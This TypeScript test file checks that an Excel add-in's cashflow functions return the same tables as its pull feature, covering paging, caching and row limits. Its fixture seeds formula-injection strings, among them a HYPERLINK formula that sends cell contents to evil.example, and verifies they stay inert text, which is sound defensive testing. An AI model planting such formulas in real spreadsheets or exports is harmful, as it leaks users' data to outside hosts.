/**
 * The spilled tables against the sandbox: each equals, header and cell for cell, the table a pull writes into the
 * Excel simulation for the same filters (the same models, the same conversion: dates as serials, empty as ""); the
 * row count is the service's `count`; hostile texts arrive as the exact strings; an empty result is the header alone;
 * paged reads are checked and de-duplicated, and one tick's identical calls are one read.
 */

import type { CashflowClient, Plan } from '../../../src/api';
import { FigureError, type SpilledTable } from '../../../src/sync/figures';
import { SPILL_ROW_LIMIT } from '../../../src/sync/figures/spilled-tables';
import {
  ACCOUNTS_TABLE,
  CATEGORIES_TABLE,
  FORECAST_BUDGETS_TABLE,
  INVOICES_TABLE,
  TRANSACTIONS_TABLE,
  type TableModel,
} from '../../../src/sync/tables';
import type { PullTarget } from '../../../src/sync/pull';
import { harness, serial, tableCells } from '../pull/support';
import { clientFor, figureHarness, startService, type Sandbox } from './support';

let sandbox: Sandbox;
let reference: CashflowClient;
let best: Plan;
let offlineName: string;
const YEAR = new Date().getUTCFullYear() - 1;
/** Two years of transactions: several pages of 1000. */
const FROM = `${YEAR - 1}-01-01`;
const TO = `${YEAR}-12-31`;
const HOSTILE = {
  purpose: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  counterpart: '+41 44 000 00 00',
  invoiceName: '=1+1',
  invoiceReference: '@SUM(A1)',
  budgetName: '-1500',
};

beforeAll(async () => {
  sandbox = await startService({ transactions: 6000 });
  reference = clientFor(sandbox, 'en');
  best = (await reference.plans.list()).find((p) => p.name === 'Szenario Best Case') as Plan;
  const offline = (await reference.accounts.summary()).accounts.find((a) => a.status === 'OFFLINE');
  if (!offline) throw new Error('the demo company has offline accounts');
  await reference.accounts.createTransaction(offline.id, {
    value_date: `${YEAR}-06-15`,
    amount: -12.34,
    purpose: HOSTILE.purpose,
    counterpart_name: HOSTILE.counterpart,
  });
  await reference.invoices.create({
    reference: HOSTILE.invoiceReference,
    name: HOSTILE.invoiceName,
    amount: 99.5,
    due_date: `${YEAR + 2}-01-31`,
    type: 'RE',
  });
  const leaf = (await reference.forecastBudgets.page({ page: 1, page_size: 1 })).results.budgets[0]?.category.id ?? 0;
  await reference.forecastBudgets.create({
    name: HOSTILE.budgetName,
    category: leaf,
    settlement_date: `${YEAR + 2}-02-01`,
    amount: -1500,
    account: offline.id,
  });
  offlineName = offline.name;
}, 30_000);

afterAll(async () => {
  await sandbox.close();
});

/** What a pull of `target` writes: the table's headers and its data rows as the simulated workbook holds the cells. */
async function pulled(target: PullTarget, tableName: string): Promise<{ headers: string[]; rows: unknown[][] }> {
  const h = harness(sandbox);
  try {
    await h.puller.pull(target);
    const { headers, rows } = tableCells(h.workbook, tableName);
    return { headers, rows };
  } finally {
    h.uninstall();
  }
}

function expectLikePulled<R>(table: SpilledTable, model: TableModel<R>, pull: { headers: string[]; rows: unknown[][] }): void {
  expect(table[0]).toEqual(model.columns.map((c) => c.header));
  expect(table[0]).toEqual(pull.headers);
  expect(table.slice(1)).toEqual(pull.rows);
  for (const row of table) for (const cell of row) expect(['string', 'number', 'boolean']).toContain(typeof cell);
}

/** The cells of one column (by header) below the header row. */
const column = (table: SpilledTable, header: string): unknown[] => table.slice(1).map((row) => row[table[0]?.indexOf(header) ?? -1]);

describe('spilled tables', () => {
  test("TRANSACTIONS equals the pulled table for the same filters, has the service's count of rows and pages at 1000", async () => {
    const h = figureHarness(sandbox);
    const table = await h.engine.transactions(FROM, serial(TO));
    const { count } = await reference.transactions.extendedPage({ min_date: FROM, max_date: TO, page: 1, page_size: 1 });
    expect(count).toBeGreaterThan(2000);
    expect(table).toHaveLength(count + 1);
    expectLikePulled(
      table,
      TRANSACTIONS_TABLE,
      await pulled({ resource: 'transactions', filters: { min_date: FROM, max_date: TO } }, 'Transactions'),
    );
    const lists = h.requestsTo('/transactions/');
    expect(lists).toHaveLength(Math.ceil(count / 1000));
    expect(lists.every((s) => s.path === '/transactions/extended/' && s.query.get('page_size') === '1000')).toBe(true);
    // Dates are the pull's serials, and text stays the exact string.
    expect(column(table, 'Value date').every((d) => typeof d === 'number')).toBe(true);
    expect(column(table, 'Purpose')).toContain(HOSTILE.purpose);
    expect(column(table, 'Counterpart')).toContain(HOSTILE.counterpart);
  });

  test('TRANSACTIONS of a category and an account; the same call in one tick is one read, and cached', async () => {
    const h = figureHarness(sandbox);
    const account = (await reference.accounts.summary()).accounts.find((a) => a.transaction_count > 100);
    if (!account) throw new Error('no account with transactions');
    const personal = (await reference.categories.list()).find((c) => c.name === 'Personal');
    const [a, b, c] = await Promise.all([
      h.engine.transactions(`${YEAR}-01-01`, TO, 'Ausgaben › Personal', account.name),
      h.engine.transactions(serial(`${YEAR}-01-01`), TO, personal?.id, account.id),
      h.engine.transactions(`${YEAR}-01-01`, TO, 'Ausgaben › Personal', account.name),
    ]);
    expect(b).toEqual(a);
    expect(c).toEqual(a);
    const { count } = await reference.transactions.extendedPage({
      min_date: `${YEAR}-01-01`,
      max_date: TO,
      category: personal?.id ?? 0,
      account: account.id,
      page: 1,
      page_size: 1,
    });
    expect(count).toBeGreaterThan(0);
    expect(a).toHaveLength(count + 1);
    expect(h.requestsTo('/transactions/')).toHaveLength(1);
    a[1]?.splice(0, 1, 'changed by a caller'); // each caller has its own copy
    expect(await h.engine.transactions(`${YEAR}-01-01`, TO, 'Ausgaben › Personal', account.name)).toEqual(b);
    expect(h.requestsTo('/transactions/')).toHaveLength(1);
  });

  test('an empty result is the header row alone', async () => {
    const h = figureHarness(sandbox);
    expect(await h.engine.transactions('2001-01-01', '2001-12-31')).toEqual([TRANSACTIONS_TABLE.columns.map((c) => c.header)]);
    expect(await h.engine.budgets(null, '2001-01-01', '2001-12-31')).toEqual([FORECAST_BUDGETS_TABLE.columns.map((c) => c.header)]);
  });

  test('a record seen twice while paging is one row; pages that do not add up are read again, then the table fails', async () => {
    const h = figureHarness(sandbox);
    let copy: unknown;
    h.hook.current = async (request) => {
      const url = new URL(request.url);
      if (url.pathname !== '/transactions/extended/') return undefined;
      const body = (await (await fetch(request)).json()) as { results: unknown[] };
      if (url.searchParams.get('page') === '1') copy = body.results[0];
      if (url.searchParams.get('page') !== '2') return Response.json(body);
      return Response.json({ ...body, results: [copy, ...body.results] }); // moved to a later page while reading
    };
    const table = await h.engine.transactions(FROM, TO);
    const ids = column(table, 'Id');
    expect(new Set(ids).size).toBe(ids.length);
    const { count } = await reference.transactions.extendedPage({ min_date: FROM, max_date: TO, page: 1, page_size: 1 });
    expect(ids).toHaveLength(count);

    const changing = figureHarness(sandbox);
    changing.hook.current = async (request) => {
      const url = new URL(request.url);
      if (url.pathname !== '/transactions/extended/' || url.searchParams.get('page') !== '2') return undefined;
      const body = (await (await fetch(request)).json()) as { count: number };
      return Response.json({ ...body, count: body.count + 1 }); // someone added a transaction meanwhile
    };
    const error = await changing.engine.transactions(FROM, TO).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(FigureError);
    expect((error as FigureError).message).toBe('The data changed while it was being read. Recalculate to try again.');
    expect(changing.requestsTo('/transactions/').length).toBe(2 * Math.ceil(count / 1000));
  });

  test('a table bigger than a function spills is refused from its first page, saying how to narrow it', async () => {
    const h = figureHarness(sandbox);
    h.hook.current = async (request) => {
      const url = new URL(request.url);
      if (url.pathname !== '/transactions/extended/') return undefined;
      const body = (await (await fetch(request)).json()) as { count: number };
      return Response.json({ ...body, count: SPILL_ROW_LIMIT + 1 }); // a company of many years
    };
    const error = await h.engine.transactions(FROM, TO).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(FigureError);
    expect((error as FigureError).message).toBe(
      'The table has 100,001 rows, more than a function spills (100,000): narrow the dates, the category or the account, or load the table from the task pane.',
    );
    // The first page told: the others (read ahead with the first) are not all read.
    expect(h.requestsTo('/transactions/').length).toBeLessThanOrEqual(3);
  });

  test('INVOICES equals the pulled table, all or of one type and status; hostile texts stay the exact strings', async () => {
    const h = figureHarness(sandbox);
    const [all, receivables, overdue] = await Promise.all([
      h.engine.invoices(),
      h.engine.invoices('Forderungen'),
      h.engine.invoices('PA', 'overdue'),
    ]);
    expectLikePulled(all, INVOICES_TABLE, await pulled({ resource: 'invoices' }, 'Invoices'));
    expectLikePulled(receivables, INVOICES_TABLE, await pulled({ resource: 'invoices', filters: { type: 'receivable' } }, 'Invoices'));
    expectLikePulled(
      overdue,
      INVOICES_TABLE,
      await pulled({ resource: 'invoices', filters: { type: 'payable', status: 'OD' } }, 'Invoices'),
    );
    expect(all).toHaveLength((await reference.invoices.page({ page: 1, page_size: 1 })).count + 1);
    expect(overdue.length).toBeGreaterThan(1);
    expect(column(all, 'Name')).toContain(HOSTILE.invoiceName);
    expect(column(all, 'Reference')).toContain(HOSTILE.invoiceReference);
    expect(column(receivables, 'Type').every((t) => t === 'RE')).toBe(true);
  });

  test('BUDGETS of the forecast and of a scenario equal the pulled tables; a range filters by settlement date', async () => {
    const h = figureHarness(sandbox);
    const [forecast, scenario, ranged] = await Promise.all([
      h.engine.budgets(),
      h.engine.budgets(best.name),
      h.engine.budgets('', `${YEAR + 2}-01-01`, `${YEAR + 2}-06-30`),
    ]);
    expectLikePulled(forecast, FORECAST_BUDGETS_TABLE, await pulled({ resource: 'forecastBudgets' }, 'ForecastBudgets'));
    const scenarioPull = await pulled({ resource: 'scenarioBudgets', scenarioId: best.id }, `Scenario_${best.id}_Budgets`);
    expect(scenario[0]).toEqual(scenarioPull.headers);
    expect(scenario.slice(1)).toEqual(scenarioPull.rows);
    expect(ranged).toHaveLength(
      (await reference.forecastBudgets.page({ min_date: `${YEAR + 2}-01-01`, max_date: `${YEAR + 2}-06-30`, page: 1, page_size: 1 }))
        .count + 1,
    );
    expect(ranged.length).toBeGreaterThan(1);
    expect(column(forecast, 'Name')).toContain(HOSTILE.budgetName);
    // The accounts' lookup is applied: the budget's account id shows as its name.
    const hostile = forecast.find((row) => row[forecast[0]?.indexOf('Name') ?? -1] === HOSTILE.budgetName) ?? [];
    expect(hostile[forecast[0]?.indexOf('Account') ?? -1]).toBe(offlineName);
  });

  test('CATEGORIES and ACCOUNTS equal the pulled tables, read from the reference lists the other functions share', async () => {
    const h = figureHarness(sandbox);
    const [categories, accounts, again] = await Promise.all([h.engine.categories(), h.engine.accounts(), h.engine.categories()]);
    expectLikePulled(categories, CATEGORIES_TABLE, await pulled({ resource: 'categories' }, 'Categories'));
    expectLikePulled(accounts, ACCOUNTS_TABLE, await pulled({ resource: 'accounts' }, 'Accounts'));
    expect(again).toEqual(categories);
    expect(
      h
        .calls()
        .map((s) => s.path)
        .sort(),
    ).toEqual(['/accounts/', '/categories/']);
    await h.engine.actuals('Ausgaben', '2025-01-01', '2025-01-31');
    expect(h.requestsTo('/categories/')).toHaveLength(1);
  });
});
